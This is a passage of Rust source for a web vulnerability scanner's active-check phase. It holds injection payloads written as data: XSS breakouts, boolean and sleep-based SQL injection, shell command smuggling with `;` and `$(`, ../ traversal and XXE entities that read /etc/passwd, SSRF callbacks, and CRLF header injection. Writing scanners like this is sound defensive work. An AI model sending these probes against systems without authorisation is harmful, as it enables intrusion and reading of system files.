//! Active checks: every injection point gets payloads for every class, and a class is reported
//! only once a second, different request confirmed it.
//!
//! Why confirmation everywhere: a scanner that reports what it merely suspects is ignored.
//! * XSS: the response is parsed; our marker must be an element, an attribute, a `javascript:`
//!   URL or script code (never text or an attribute value). Payloads follow the contexts a
//!   harmless probe was reflected in, so a value echoed nowhere costs one request.
//! * Stored XSS: every XSS payload carries a unique marker; after the active phase the crawled
//!   pages are read again and a live marker names the input that stored it.
//! * SQL injection: a database error that a balanced quote makes disappear; or two different
//!   pairs of true/false conditions giving the same two distinct pages (words that change with
//!   the request's own noise, such as CSRF tokens, are discounted); or delays that follow the
//!   requested ones (d, 0, 2d).
//! * Command injection: the shell's arithmetic result (never in the payload) twice with other
//!   numbers, or delays as for SQL. Template injection: a product evaluated, twice.
//! * Path traversal and XXE: `/etc/passwd`'s structure in the answer, absent from the baseline.
//! * Open redirect and CRLF: the response head parsed (Location host, an injected header).
//! * SSRF and blind XXE: the callback listener received our token.

use crate::compare::without;
use crate::crawl::Site;
use crate::finding::{self, excerpt, make, request_text, Class};
use crate::html::{marker_contexts, MarkerContext};
use crate::http::{Request, Response};
use crate::inject::{Body, Endpoint, Location, PathEncoding, Point};
use crate::Ctx;
use picket_model::WebEvidence;
use rand::Rng;
use regex::Regex;
use std::collections::{BTreeMap, BTreeSet};
use std::sync::{Arc, OnceLock};
use std::time::Duration;

/// An XSS payload sent, remembered to find it stored elsewhere.
#[derive(Debug, Clone)]
pub struct Marker {
    pub token: String,
    pub point: Point,
    pub payload: String,
}

/// A fresh lower-case alphanumeric token (markup names are lower-cased by the parser).
fn token() -> String {
    format!(
        "pkt{:010x}",
        rand::thread_rng().gen::<u64>() & 0xff_ffff_ffff
    )
}

fn num(lo: u32, hi: u32) -> u32 {
    rand::thread_rng().gen_range(lo..hi)
}

fn regexes(cell: &'static OnceLock<Vec<Regex>>, pats: &[&str]) -> &'static [Regex] {
    cell.get_or_init(|| pats.iter().filter_map(|p| Regex::new(p).ok()).collect())
}

fn sql_errors() -> &'static [Regex] {
    static C: OnceLock<Vec<Regex>> = OnceLock::new();
    regexes(
        &C,
        &[
            r"(?i)sqlite3?\.OperationalError",
            r"SQLITE_ERROR",
            r#"unrecognized token: ""#,
            r#"(?i)near "[^"]{0,80}": syntax error"#,
            r"(?i)unterminated quoted string at or near",
            r#"(?i)syntax error at or near ""#,
            r"You have an error in your SQL syntax",
            r"(?i)Warning: mysqli?_",
            r"(?i)Unclosed quotation mark after the character string",
            r"Microsoft OLE DB Provider for (SQL Server|ODBC)",
            r"ORA-0(0933|1756|0921|1740)",
            r"SQLSTATE\[\w+\]",
            r"java\.sql\.SQLException",
            r"PG::SyntaxError",
            r"(?i)quoted string not properly terminated",
        ],
    )
}

fn passwd_re() -> &'static [Regex] {
    static C: OnceLock<Vec<Regex>> = OnceLock::new();
    regexes(&C, &[r"root:[^:\r\n]*:0:0:[^\r\n]*:/"])
}

fn sql_error(text: &str) -> Option<String> {
    sql_errors()
        .iter()
        .find_map(|r| r.find(text).map(|m| m.as_str().to_owned()))
}

fn passwd(text: &str) -> Option<String> {
    passwd_re()
        .iter()
        .find_map(|r| r.find(text).map(|m| m.as_str().to_owned()))
}

/// Echo forms of a payload a page may show: as is, HTML-escaped, form-encoded.
fn echoes(payload: &str) -> Vec<String> {
    let esc = payload
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;");
    vec![
        payload.to_owned(),
        esc.replace('"', "&quot;").replace('\'', "&#x27;"),
        esc.replace('"', "&quot;").replace('\'', "&#39;"),
        esc.clone(),
        crate::inject::form_encode(payload),
    ]
}

fn body_without(resp: &Response, payload: &str) -> String {
    let e = echoes(payload);
    let refs: Vec<&str> = e.iter().map(String::as_str).collect();
    without(&resp.text(), &refs)
}

/// Word counts of a response (status included), payload echoes removed.
fn word_bag(resp: &Response, payload: &str) -> BTreeMap<String, u32> {
    let mut m = BTreeMap::new();
    m.insert(format!("__status_{}", resp.status), 1);
    for w in body_without(resp, payload)
        .split(|c: char| !c.is_alphanumeric() && c != '_')
        .filter(|w| !w.is_empty())
        .take(50_000)
    {
        *m.entry(w.to_owned()).or_insert(0) += 1;
    }
    m
}

/// Words whose counts differ between two bags.
fn diff(a: &BTreeMap<String, u32>, b: &BTreeMap<String, u32>) -> BTreeSet<String> {
    let mut out = BTreeSet::new();
    for (k, v) in a {
        if b.get(k) != Some(v) {
            out.insert(k.clone());
        }
    }
    for k in b.keys() {
        if !a.contains_key(k) {
            out.insert(k.clone());
        }
    }
    out
}

struct Probe {
    resp: Response,
    request: Request,
}

/// Per-point context for the checks.
struct PointRun<'a> {
    ctx: &'a Arc<Ctx>,
    p: &'a Point,
    base: Response,
}

impl PointRun<'_> {
    async fn send(&self, value: &str) -> Option<Probe> {
        self.send_enc(value, PathEncoding::Encoded).await
    }

    async fn send_enc(&self, value: &str, enc: PathEncoding) -> Option<Probe> {
        let request = self.p.request_with(value, enc);
        let resp = self.ctx.send(&request).await.ok()?;
        Some(Probe { resp, request })
    }

    /// Time of a request; a timeout counts as the whole limit (the server was slow).
    async fn timed(&self, value: &str) -> Option<(Duration, Probe)> {
        let request = self.p.request(value);
        let started = std::time::Instant::now();
        match self.ctx.send(&request).await {
            Ok(resp) => Some((resp.elapsed, Probe { resp, request })),
            Err(crate::WebscanError::Timeout { .. }) => {
                let resp = Response {
                    status: 0,
                    headers: Vec::new(),
                    body: b"(no answer within the request time limit)".to_vec(),
                    truncated: false,
                    elapsed: started.elapsed(),
                };
                Some((started.elapsed(), Probe { resp, request }))
            }
            Err(_) => None,
        }
    }

    fn report(
        &self,
        class: &Class,
        probe: &Probe,
        needle: Option<&str>,
        headers: &[&str],
        detail: &str,
    ) {
        self.report_note(class, probe, needle, headers, detail, "");
    }

    /// As [`PointRun::report`], with a note on how the finding was confirmed in the evidence.
    fn report_note(
        &self,
        class: &Class,
        probe: &Probe,
        needle: Option<&str>,
        headers: &[&str],
        detail: &str,
        note: &str,
    ) {
        let ep = &self.p.endpoint;
        let mut response_excerpt = excerpt(&probe.resp, headers, needle);
        if !note.is_empty() {
            response_excerpt = format!("{note}\n\n{response_excerpt}");
        }
        let ev = WebEvidence {
            request: request_text(&self.ctx.client, &probe.request),
            response_excerpt,
        };
        self.ctx.add(make(
            class,
            &ep.url,
            &ep.method,
            Some(&self.p.label()),
            Some(self.p.location),
            ev,
            detail,
            Vec::new(),
        ));
    }
}

/// Where a harmless probe came back.
#[derive(Debug, Default)]
struct Reflection {
    text: bool,
    attr: bool,
    url_attr_start: bool,
    script: bool,
    header: bool,
    location: bool,
}

fn reflection(resp: &Response, tok: &str) -> Reflection {
    let mut r = Reflection::default();
    for (k, v) in &resp.headers {
        if v.contains(tok) {
            r.header = true;
            if k == "location" || k == "refresh" {
                r.location = true;
            }
        }
    }
    let body = resp.text();
    if !body.contains(tok) {
        return r;
    }
    if !resp.is_html() {
        // JSON or text echoing the value: a browser may still render it when sniffing.
        r.text = resp
            .header("content-type")
            .is_none_or(|c| c.contains("html"));
        return r;
    }
    for ev in crate::html::events(&body) {
        match ev {
            crate::html::Event::Start { attrs, .. } => {
                for (k, v) in attrs {
                    if v.contains(tok) {
                        r.attr = true;
                        if matches!(k.as_str(), "href" | "src" | "action" | "formaction")
                            && v.starts_with(tok)
                        {
                            r.url_attr_start = true;
                        }
                        if k.starts_with("on") {
                            r.script = true;
                        }
                    }
                }
            }
            crate::html::Event::Text { text, raw } if text.contains(tok) => match raw.as_deref() {
                Some("script") => r.script = true,
                _ => r.text = true,
            },
            crate::html::Event::Comment(c) if c.contains(tok) => r.text = true,
            _ => {}
        }
    }
    r
}

/// Runs the active phase; returns the number of injection points tested.
pub(crate) async fn run(ctx: &Arc<Ctx>, site: &Site) -> u64 {
    let mut points: Vec<Point> = Vec::new();
    for e in &site.endpoints {
        points.extend(e.points());
    }
    points.extend(header_and_cookie_points(ctx, site).await);
    let n = points.len() as u64;
    tracing::info!("active checks: {n} injection points");
    ctx.progress.phase("checks", n);
    let mut bases: std::collections::HashMap<(usize, bool), BaseCell> =
        std::collections::HashMap::new();
    let mut tasks = tokio::task::JoinSet::new();
    let mut it = points
        .into_iter()
        .map(|p| {
            // Header and cookie points change the request itself; they get their own baseline.
            let shared = !matches!(p.location, Location::Header | Location::Cookie);
            let key = (Arc::as_ptr(&p.endpoint) as usize, shared);
            let cell = if shared {
                bases.entry(key).or_default().clone()
            } else {
                BaseCell::default()
            };
            (p, cell)
        })
        .collect::<Vec<_>>()
        .into_iter();
    let width = ctx.cfg.concurrency.max(1) * 2;
    loop {
        while tasks.len() < width {
            let Some((p, cell)) = it.next() else { break };
            if ctx.client.remaining() == 0 || ctx.client.past_deadline() {
                break;
            }
            let c = ctx.clone();
            tasks.spawn(async move { test_point(&c, &p, cell).await });
        }
        if tasks.join_next().await.is_none() {
            break;
        }
        ctx.progress.advance(1);
    }
    tracing::info!(
        "active checks done ({} requests so far); reading pages again for stored XSS",
        ctx.client.sent()
    );
    stored_xss(ctx, site).await;
    late_callbacks(ctx).await;
    n
}

/// Headers and cookies as injection points: one probe request per page carries a token in every
/// chosen header and every non-session cookie; those reflected (headers), and every cookie the
/// site set itself (cookies feed queries without echoing), become points.
async fn header_and_cookie_points(ctx: &Arc<Ctx>, site: &Site) -> Vec<Point> {
    let mut out = Vec::new();
    let cookie_pages = ctx.cookie_pages();
    for (name, page) in &cookie_pages {
        let ep = Arc::new(Endpoint {
            method: "GET".into(),
            url: page.clone(),
            body: Body::None,
            path_params: Vec::new(),
            found_on: page.to_string(),
        });
        let original = ctx
            .client
            .cookies()
            .into_iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v)
            .unwrap_or_else(|| "picket".into());
        out.push(Point {
            endpoint: ep,
            location: Location::Cookie,
            name: name.clone(),
            original,
        });
    }
    if ctx.cfg.inject_headers.is_empty() {
        return out;
    }
    let mut seen = BTreeSet::new();
    let pages: Vec<_> = site
        .html_pages
        .iter()
        .filter(|u| u.query().is_none() && seen.insert(crate::scope::path_pattern(u.path())))
        .take(40)
        .cloned()
        .collect();
    let mut tasks = tokio::task::JoinSet::new();
    for page in pages {
        let c = ctx.clone();
        tasks.spawn(async move {
            let mut req = Request::get(page.clone());
            let toks: Vec<(String, String)> = c
                .cfg
                .inject_headers
                .iter()
                .map(|h| (h.clone(), token()))
                .collect();
            for (h, t) in &toks {
                req.headers.push((h.clone(), t.clone()));
            }
            let Ok(resp) = c.send(&req).await else {
                return Vec::new();
            };
            let text = resp.text();
            toks.into_iter()
                .filter(|(_, t)| {
                    text.contains(t.as_str())
                        || resp.headers.iter().any(|(_, v)| v.contains(t.as_str()))
                })
                .map(|(h, _)| Point {
                    endpoint: Arc::new(Endpoint {
                        method: "GET".into(),
                        url: page.clone(),
                        body: Body::None,
                        path_params: Vec::new(),
                        found_on: page.to_string(),
                    }),
                    location: Location::Header,
                    name: h.clone(),
                    original: if h.eq_ignore_ascii_case("user-agent") {
                        crate::USER_AGENT.into()
                    } else {
                        "picket.example".into()
                    },
                })
                .collect()
        });
    }
    while let Some(r) = tasks.join_next().await {
        if let Ok(v) = r {
            out.extend(v);
        }
    }
    out
}

/// The answer to an endpoint's request as found, shared by its points (one request, not one
/// per parameter).
type BaseCell = Arc<tokio::sync::OnceCell<Option<Response>>>;

async fn test_point(ctx: &Arc<Ctx>, p: &Point, base: BaseCell) {
    let base = base
        .get_or_init(|| async { ctx.send(&p.request(&p.original)).await.ok() })
        .await;
    let Some(base) = base.clone() else { return };
    let header_like = matches!(p.location, Location::Header);
    let run = PointRun { ctx, p, base };
    let tok = token();
    let Some(probe) = run.send(&tok).await else {
        return;
    };
    let refl = reflection(&probe.resp, &tok);
    let name = p.name.to_ascii_lowercase();
    let path_like = p.location == Location::Path;

    xss(&run, &refl).await;
    if refl.header {
        crlf(&run).await;
    }
    let urlish = [
        "url", "uri", "link", "redirect", "next", "return", "goto", "dest", "continue", "target",
        "callback", "webhook", "feed", "site", "src", "image", "img", "proxy", "fetch", "endpoint",
        "host",
    ]
    .iter()
    .any(|k| name.contains(k))
        || p.original.contains("://")
        || p.original.starts_with('/') && !path_like;
    if refl.location || urlish {
        open_redirect(&run).await;
    }
    if urlish || p.original.contains("://") {
        ssrf(&run).await;
    }
    let xmlish = p.location == Location::Body
        || p.original.trim_start().starts_with('<')
        || name.contains("xml");
    if xmlish {
        xxe(&run).await;
    }
    if header_like {
        // A header that is echoed: markup and header injection, templates, SQL errors.
        if refl.text || refl.attr || refl.script {
            ssti(&run).await;
        }
        sqli_error(&run).await;
        return;
    }
    if !sqli_error(&run).await && !sqli_boolean(&run).await {
        sqli_time(&run).await;
    }
    traversal(&run).await;
    if refl.text
        || refl.attr
        || refl.script
        || !run.base.is_html() && run.base.text().contains(&p.original)
    {
        ssti(&run).await;
    }
    if !cmdi_output(&run).await {
        cmdi_time(&run).await;
    }
}

// --- XSS ---------------------------------------------------------------------------------------

async fn xss(run: &PointRun<'_>, refl: &Reflection) {
    let method_stores = run.p.endpoint.method != "GET";
    let mut payloads: Vec<(String, String)> = Vec::new();
    let t = token();
    let breakout = format!("'\"></textarea></title></script><{t}>");
    if refl.text || refl.attr || refl.script || method_stores {
        payloads.push((t.clone(), breakout));
    }
    if refl.attr {
        let t1 = token();
        payloads.push((t1.clone(), format!("x\" {t1}=\"1")));
        let t2 = token();
        payloads.push((t2.clone(), format!("x' {t2}='1")));
    }
    if refl.url_attr_start {
        let t3 = token();
        payloads.push((t3.clone(), format!("javascript:{t3}(1)")));
    }
    if refl.script {
        for q in ["'", "\"", "`"] {
            let t4 = token();
            let p = if q == "`" {
                format!("${{{t4}(1)}}")
            } else {
                format!("{q};{t4}(1);//")
            };
            payloads.push((t4, p));
        }
    }
    for (tok, payload) in payloads {
        run.ctx.remember(Marker {
            token: tok.clone(),
            point: run.p.clone(),
            payload: payload.clone(),
        });
        let Some(probe) = run.send(&payload).await else {
            continue;
        };
        let html = probe.resp.text();
        let ctxs = if probe.resp.is_html() {
            marker_contexts(&html, &tok)
        } else {
            Vec::new()
        };
        if let Some(c) = ctxs.first() {
            let detail = match c {
                MarkerContext::Element(_) => "HTML element injected".to_owned(),
                MarkerContext::Attribute { element, .. } => {
                    format!("attribute injected into <{element}>")
                }
                MarkerContext::JavascriptUrl { element, attribute } => {
                    format!("script URL in <{element} {attribute}>")
                }
                MarkerContext::ScriptCode => "code injected into a script".to_owned(),
            };
            run.report(
                &finding::XSS_REFLECTED,
                &probe,
                Some(&tok),
                &["content-type"],
                &detail,
            );
            return;
        }
    }
}

async fn stored_xss(ctx: &Arc<Ctx>, site: &Site) {
    let markers = ctx.markers_snapshot();
    if markers.is_empty() {
        return;
    }
    let mut tasks = tokio::task::JoinSet::new();
    for page in site.html_pages.iter().take(200).cloned() {
        let c = ctx.clone();
        tasks.spawn(async move {
            let Ok(resp) = c.send(&Request::get(page.clone())).await else {
                return None;
            };
            Some((page, resp))
        });
    }
    while let Some(r) = tasks.join_next().await {
        let Ok(Some((page, resp))) = r else { continue };
        if !resp.is_html() {
            continue;
        }
        let html = resp.text();
        for m in &markers {
            if !html.contains(&m.token) {
                continue;
            }
            if marker_contexts(&html, &m.token).is_empty() {
                continue;
            }
            let p = &m.point;
            let ep = &p.endpoint;
            let reflected_id = finding::stable_id(
                &finding::XSS_REFLECTED,
                &ep.method,
                &ep.url,
                Some(&p.label()),
                Some(p.location),
            );
            let stored_id = finding::stable_id(
                &finding::XSS_STORED,
                &ep.method,
                &ep.url,
                Some(&p.label()),
                Some(p.location),
            );
            if ctx.has(&stored_id) {
                continue;
            }
            // The same input shown live on a page read without it: stored, not reflected.
            ctx.remove(&reflected_id);
            let req = p.request(&m.payload);
            let ev = WebEvidence {
                request: format!(
                    "{}\n--- then ---\nGET {}",
                    request_text(&ctx.client, &req),
                    page
                ),
                response_excerpt: excerpt(&resp, &["content-type"], Some(&m.token)),
            };
            ctx.add(make(
                &finding::XSS_STORED,
                &ep.url,
                &ep.method,
                Some(&p.label()),
                Some(p.location),
                ev,
                &format!("shown on {}", page.path()),
                Vec::new(),
            ));
        }
    }
}

// --- SQL injection -----------------------------------------------------------------------------

async fn sqli_error(run: &PointRun<'_>) -> bool {
    let base_text = run.base.text();
    if sql_error(&base_text).is_some() {
        return false;
    }
    let o = &run.p.original;
    for q in ["'", "\""] {
        let Some(bad) = run.send(&format!("{o}{q}")).await else {
            continue;
        };
        let Some(err) = sql_error(&bad.resp.text()) else {
            continue;
        };
        // Confirmation: the balanced quote makes the error go away, the odd one brings it back.
        let Some(balanced) = run.send(&format!("{o}{q}{q}")).await else {
            continue;
        };
        if sql_error(&balanced.resp.text()).is_some() {
            continue;
        }
        let Some(again) = run.send(&format!("{o}{q}")).await else {
            continue;
        };
        if sql_error(&again.resp.text()).is_none() {
            continue;
        }
        run.report(
            &finding::SQLI,
            &bad,
            Some(&err),
            &["content-type"],
            "database error on an unbalanced quote",
        );
        return true;
    }
    false
}

async fn sqli_boolean(run: &PointRun<'_>) -> bool {
    let o = run.p.original.clone();
    let numeric = !o.is_empty() && o.bytes().all(|b| b.is_ascii_digit());
    // (true, false, true again, false again); the second pair differs in form from the first.
    let mut families: Vec<[String; 4]> = Vec::new();
    if numeric {
        families.push([
            format!("{o} AND 1=1"),
            format!("{o} AND 1=2"),
            format!("{o} AND 5>2"),
            format!("{o} AND 2>5"),
        ]);
    }
    families.push([
        format!("{o}' AND '1'='1"),
        format!("{o}' AND '1'='2"),
        format!("{o}' AND 'b'>'a"),
        format!("{o}' AND 'a'>'b"),
    ]);
    families.push([
        format!("{o}' AND 1=1-- -"),
        format!("{o}' AND 1=2-- -"),
        format!("{o}' AND 5>2-- -"),
        format!("{o}' AND 2>5-- -"),
    ]);
    families.push([
        format!("{o}' OR '1'='1"),
        format!("{o}' OR '1'='2"),
        format!("{o}' OR 'b'>'a"),
        format!("{o}' OR 'a'>'b"),
    ]);
    let base = word_bag(&run.base, &o);
    for (i, fam) in families.iter().enumerate() {
        let is_or = i == families.len() - 1;
        let Some(t1) = run.send(&fam[0]).await else {
            continue;
        };
        let bt1 = word_bag(&t1.resp, &fam[0]);
        if !is_or
            && !diff(&bt1, &base).iter().all(|w| w.starts_with("pkt"))
            && diff(&bt1, &base).len() > 2
        {
            // The true condition must leave the page as it was (noise aside, checked below).
            continue;
        }
        let Some(f1) = run.send(&fam[1]).await else {
            continue;
        };
        let bf1 = word_bag(&f1.resp, &fam[1]);
        let d1 = diff(&bt1, &bf1);
        if d1.is_empty() {
            continue;
        }
        let Some(t2) = run.send(&fam[2]).await else {
            continue;
        };
        let Some(f2) = run.send(&fam[3]).await else {
            continue;
        };
        let bt2 = word_bag(&t2.resp, &fam[2]);
        let bf2 = word_bag(&f2.resp, &fam[3]);
        // Words that change between equivalent requests are noise (tokens, times, counters).
        let noise: BTreeSet<String> = diff(&bt1, &bt2).union(&diff(&bf1, &bf2)).cloned().collect();
        let s1: BTreeSet<String> = d1.difference(&noise).cloned().collect();
        let s2: BTreeSet<String> = diff(&bt2, &bf2).difference(&noise).cloned().collect();
        if s1.is_empty() || s1 != s2 {
            continue;
        }
        // The side that matches the original request must match it outside the noise too.
        let like_base = if is_or { &bf1 } else { &bt1 };
        let vs_base: BTreeSet<String> =
            diff(like_base, &base).difference(&noise).cloned().collect();
        if vs_base.intersection(&s1).next().is_some() {
            continue;
        }
        let words: Vec<&str> = s1.iter().map(String::as_str).take(8).collect();
        let needle = s1.iter().find(|w| !w.starts_with("__status")).cloned();
        let note = format!(
            "true {:?} and false {:?} give two different pages (words that differ: {}); {:?} and {:?} give the same two",
            fam[0],
            fam[1],
            words.join(" "),
            fam[2],
            fam[3]
        );
        run.report_note(
            &finding::SQLI,
            &t1,
            needle.as_deref(),
            &["content-type"],
            "boolean conditions change the page",
            &note,
        );
        return true;
    }
    false
}

fn delay_ok(measured: Duration, wanted: Duration) -> bool {
    measured >= wanted.mul_f64(0.9)
}

/// Sends `template` with `{d}` = d, 0 and 2d seconds; true when the delays follow.
/// A time-based finding's evidence is its timings (the response itself shows nothing): they
/// replace the probe's body.
fn timing_evidence(
    run: &PointRun<'_>,
    probe: &mut Probe,
    (t1, t0, t2): (Duration, Duration, Duration),
) {
    probe.resp.body = format!(
        "response times: {:.2} s with the delay, {:.2} s without, {:.2} s with twice the delay (baseline {:.2} s)",
        t1.as_secs_f64(), t0.as_secs_f64(), t2.as_secs_f64(), run.base.elapsed.as_secs_f64()
    )
    .into_bytes();
}

async fn time_confirmed(
    run: &PointRun<'_>,
    template: &str,
) -> Option<(Probe, Duration, Duration, Duration)> {
    let d = run.ctx.cfg.time_delay;
    if run.base.elapsed >= d / 2 {
        return None;
    }
    let secs = |x: Duration| format!("{}", x.as_secs_f64());
    let (t1, p1) = run.timed(&template.replace("{d}", &secs(d))).await?;
    if !delay_ok(t1, d) {
        return None;
    }
    let (t0, _) = run.timed(&template.replace("{d}", "0")).await?;
    if t0 >= d / 2 {
        return None;
    }
    let (t2, _) = run.timed(&template.replace("{d}", &secs(2 * d))).await?;
    if !delay_ok(t2, 2 * d) {
        return None;
    }
    Some((p1, t1, t0, t2))
}

async fn sqli_time(run: &PointRun<'_>) -> bool {
    let o = &run.p.original;
    let numeric = !o.is_empty() && o.bytes().all(|b| b.is_ascii_digit());
    // No trailing comments: they would also cut off what follows in the query (placeholders,
    // other conditions) and turn a vulnerable query into an error. The delay sits in a scalar
    // subquery, which databases evaluate once per statement (a bare `OR sleep(d)` sleeps once per
    // row: 3 rows, 3d), and behind OR, so it runs although our value matches no row.
    let mut templates = Vec::new();
    if numeric {
        templates.push(format!("{o} OR (SELECT sleep({{d}}))"));
    }
    templates.push(format!("{o}' OR (SELECT sleep({{d}})) OR '1'='2"));
    templates.push(format!(
        "{o}' OR (SELECT pg_sleep({{d}})) IS NULL OR '1'='2"
    ));
    templates.push(format!("{o}' AND sleep({{d}}) AND '1'='1"));
    for t in templates {
        if let Some((mut probe, t1, t0, t2)) = time_confirmed(run, &t).await {
            timing_evidence(run, &mut probe, (t1, t0, t2));
            run.report(
                &finding::SQLI,
                &probe,
                None,
                &[],
                "time-based (delays follow the injected sleep)",
            );
            return true;
        }
    }
    false
}

// --- OS commands -------------------------------------------------------------------------------

/// Ways out of the value into a shell command: after it (`;`, `|`), substituted inside it
/// (`$(...)` works unquoted and inside double quotes), and out of single quotes.
const CMD_SEPARATORS: &[(&str, &str)] = &[(";", ""), ("$(", ")"), ("';", ";'"), ("|", "")];

async fn cmdi_output(run: &PointRun<'_>) -> bool {
    let o = &run.p.original;
    let base = run.base.text();
    for (pre, post) in CMD_SEPARATORS {
        let (a, b) = (num(10_000, 99_999), num(10_000, 99_999));
        let payload = format!("{o}{pre}expr {a} + {b}{post}");
        let Some(probe) = run.send(&payload).await else {
            continue;
        };
        let sum = (a + b).to_string();
        if !probe.resp.text().contains(&sum) || base.contains(&sum) {
            continue;
        }
        let (c, d) = (num(10_000, 99_999), num(10_000, 99_999));
        let Some(confirm) = run.send(&format!("{o}{pre}expr {c} + {d}{post}")).await else {
            continue;
        };
        if !confirm.resp.text().contains(&(c + d).to_string()) {
            continue;
        }
        run.report(
            &finding::CMDI,
            &probe,
            Some(&sum),
            &["content-type"],
            &format!("`expr {a} + {b}` was run ({sum} in the answer)"),
        );
        return true;
    }
    false
}

async fn cmdi_time(run: &PointRun<'_>) -> bool {
    let o = &run.p.original;
    for (pre, post) in [(";", ""), ("$(", ")"), ("';", ";'")] {
        let t = format!("{o}{pre}sleep {{d}}{post}");
        if let Some((mut probe, t1, t0, t2)) = time_confirmed(run, &t).await {
            timing_evidence(run, &mut probe, (t1, t0, t2));
            run.report(
                &finding::CMDI,
                &probe,
                None,
                &[],
                "time-based (`sleep` delays follow)",
            );
            return true;
        }
    }
    false
}

// --- files, templates, redirects, headers --------------------------------------------------------

async fn traversal(run: &PointRun<'_>) {
    if passwd(&run.base.text()).is_some() {
        return;
    }
    let deep = "../../../../../../../../../..";
    let mut tries: Vec<(String, PathEncoding)> = vec![
        (format!("{deep}/etc/passwd"), PathEncoding::Encoded),
        ("/etc/passwd".to_owned(), PathEncoding::Encoded),
        (
            format!("{}/etc/passwd", "....//".repeat(10).trim_end_matches('/')),
            PathEncoding::Encoded,
        ),
    ];
    if run.p.location == Location::Path {
        tries.push((format!("{deep}/etc/passwd"), PathEncoding::Raw));
    }
    for (payload, enc) in tries {
        let Some(probe) = run.send_enc(&payload, enc).await else {
            continue;
        };
        if let Some(line) = passwd(&probe.resp.text()) {
            run.report(
                &finding::TRAVERSAL,
                &probe,
                Some(&line),
                &["content-type"],
                "/etc/passwd read",
            );
            return;
        }
    }
}

async fn ssti(run: &PointRun<'_>) {
    let base = run.base.text();
    for (open, close) in [("{{", "}}"), ("${", "}"), ("<%=", "%>"), ("#{", "}")] {
        let (a, b) = (num(1_000, 9_999), num(1_000, 9_999));
        let product = (u64::from(a) * u64::from(b)).to_string();
        let Some(probe) = run.send(&format!("{open}{a}*{b}{close}")).await else {
            continue;
        };
        if !probe.resp.text().contains(&product) || base.contains(&product) {
            continue;
        }
        let (c, d) = (num(1_000, 9_999), num(1_000, 9_999));
        let Some(confirm) = run.send(&format!("{open}{c}*{d}{close}")).await else {
            continue;
        };
        if !confirm
            .resp
            .text()
            .contains(&(u64::from(c) * u64::from(d)).to_string())
        {
            continue;
        }
        run.report(
            &finding::SSTI,
            &probe,
            Some(&product),
            &["content-type"],
            &format!("{open}{a}*{b}{close} evaluated to {product}"),
        );
        return;
    }
}

const REDIRECT_HOST: &str = "picket-redirect-probe.example";

async fn open_redirect(run: &PointRun<'_>) {
    for form in ["https://{h}/{t}", "//{h}/{t}", "/\\{h}/{t}"] {
        let t = token();
        let payload = form.replace("{h}", REDIRECT_HOST).replace("{t}", &t);
        let Some(probe) = run.send(&payload).await else {
            continue;
        };
        let loc = probe.resp.header("location").or_else(|| {
            probe
                .resp
                .header("refresh")
                .and_then(|r| r.split_once('=').map(|x| x.1))
        });
        let Some(loc) = loc else { continue };
        if !(300..400).contains(&probe.resp.status) && probe.resp.header("refresh").is_none() {
            continue;
        }
        let Ok(target) = run.p.endpoint.url.join(loc.trim()) else {
            continue;
        };
        if target.host_str() == Some(REDIRECT_HOST) {
            run.report(
                &finding::REDIRECT,
                &probe,
                None,
                &["location", "refresh"],
                &format!("redirects to {target}"),
            );
            return;
        }
    }
}

async fn crlf(run: &PointRun<'_>) {
    let o = &run.p.original;
    for sep in ["\r\n", "\n", "\r"] {
        let t = token();
        let Some(probe) = run.send(&format!("{o}{sep}Picket-Injected: {t}")).await else {
            continue;
        };
        if probe
            .resp
            .headers
            .iter()
            .any(|(k, v)| k == "picket-injected" && v.contains(&t))
        {
            run.report(
                &finding::CRLF,
                &probe,
                None,
                &["picket-injected", "set-cookie", "location"],
                "header Picket-Injected added to the response",
            );
            return;
        }
    }
}

// --- out of band -------------------------------------------------------------------------------

async fn wait_hit(ctx: &Ctx, t: &str) -> bool {
    let Some(cb) = &ctx.callback else {
        return false;
    };
    for _ in 0..6 {
        if cb.hit(t).is_some() {
            return true;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    cb.hit(t).is_some()
}

async fn ssrf(run: &PointRun<'_>) {
    let Some(cb) = &run.ctx.callback else { return };
    let t = token();
    let url = cb.url_for("ssrf", &t);
    let Some(probe) = run.send(&url).await else {
        return;
    };
    if wait_hit(run.ctx, &t).await {
        let inband = probe.resp.text().contains(&format!("picket-callback-{t}"));
        let detail = if inband {
            "the target fetched our callback URL and showed its answer"
        } else {
            "the target fetched our callback URL (blind)"
        };
        run.report(
            &finding::SSRF,
            &probe,
            inband.then_some(format!("picket-callback-{t}")).as_deref(),
            &["content-type"],
            detail,
        );
    } else {
        run.ctx.pending(t, run.p.clone(), url, &finding::SSRF);
    }
}

/// An XML document like `sample` with an external entity `x` declared and used in the first
/// text node (or a generic document).
pub fn xxe_document(sample: &str, system_id: &str) -> String {
    let s = sample.trim();
    let body = s
        .strip_prefix("<?xml")
        .and_then(|r| r.split_once("?>").map(|x| x.1.trim_start()))
        .unwrap_or(s);
    let root = body
        .strip_prefix('<')
        .map(|r| {
            r.chars()
                .take_while(|c| c.is_alphanumeric() || *c == '_' || *c == '-' || *c == ':')
                .collect::<String>()
        })
        .filter(|r| !r.is_empty());
    let doc = match root {
        Some(root) => {
            // First text node: between a '>' and a '<' with something other than spaces.
            let mut replaced = None;
            let bytes = body.as_bytes();
            let mut i = 0;
            while let Some(gt) = body[i..].find('>') {
                let start = i + gt + 1;
                let Some(lt) = body[start..].find('<') else { break };
                let end = start + lt;
                if bytes[start..end].iter().any(|b| !b.is_ascii_whitespace()) {
                    replaced = Some(format!("{}&x;{}", &body[..start], &body[end..]));
                    break;
                }
                i = end;
            }
            let b = replaced.unwrap_or_else(|| format!("<{root}>&x;</{root}>"));
            format!("<?xml version=\"1.0\"?>\n<!DOCTYPE {root} [<!ENTITY x SYSTEM \"{system_id}\">]>\n{b}")
        }
        None => format!("<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM \"{system_id}\">]>\n<r>&x;</r>"),
    };
    doc
}

async fn xxe(run: &PointRun<'_>) {
    let sample = &run.p.original;
    let Some(probe) = run.send(&xxe_document(sample, "file:///etc/passwd")).await else {
        return;
    };
    if let Some(line) = passwd(&probe.resp.text()) {
        if passwd(&run.base.text()).is_none() {
            run.report(
                &finding::XXE,
                &probe,
                Some(&line),
                &["content-type"],
                "external entity read /etc/passwd",
            );
            return;
        }
    }
    let Some(cb) = &run.ctx.callback else { return };
    let t = token();
    let url = cb.url_for("xxe", &t);
    let Some(probe) = run.send(&xxe_document(sample, &url)).await else {
        return;
    };
    if wait_hit(run.ctx, &t).await {
